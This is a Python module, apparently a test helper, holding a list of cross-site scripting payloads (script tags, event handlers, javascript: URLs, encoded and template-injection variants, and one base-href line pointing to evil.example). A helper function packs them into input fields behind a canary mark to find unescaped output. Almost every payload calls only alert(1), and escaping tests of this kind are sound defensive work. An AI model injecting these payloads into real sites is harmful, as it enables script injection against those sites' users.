"""Words that become scripts where somebody forgot to escape them.

After the collections that testers use: tags with handlers, broken tags, addresses, templates,
what becomes a tag only after Unicode or HTML was decoded once more. All call ``alert``.
"""

_TAGS = (
    "img src=x {}", "svg {}", "body {}", "video src=x {}", "audio src=x {}", "details open {}",
    "input autofocus {}", "iframe {}", "math {}", "marquee {}", "object data=x {}",
)  # fmt: skip
_HANDLERS = (
    "onerror=alert(1)", "onload=alert(1)", "ontoggle=alert`1`", "onfocus=alert(1)",
    "onstart=alert(1)", "onmouseover=alert(1)", "onloadstart='alert(1)'",
)  # fmt: skip
_BY_HAND = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=`x`onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "\"-alert(1)-\"",
    "';alert(1);//",
    "\\';alert(1);//",
    "[x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<style>@import'javascript:alert(1)';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<x contenteditable onblur=alert(1) autofocus>x</x>",
    "<select autofocus onfocus=alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "__proto__[innerHTML]=<img/src/onerror=alert(1)>",
)  # fmt: skip
SCRIPTS = (*_BY_HAND, *(f"<{tag.format(does)}>" for tag in _TAGS for does in _HANDLERS))
MARK = "kenari"
"""Stands at the beginning of every field, so that one sees that it was shown."""


def filled(longest: int, begin: int, scripts: tuple[str, ...]) -> str:
    """Fill a field with as many scripts as it holds, beginning with one of them.

    Args:
        longest: Characters that the field holds.
        begin: Which one is first; who counts it up gives each field each script.
        scripts: The scripts to choose from.
    """
    made = MARK
    for script in (*scripts[begin:], *scripts[:begin]):
        if len(made) + len(script) < longest:
            made = f"{made} {script}"
    return made
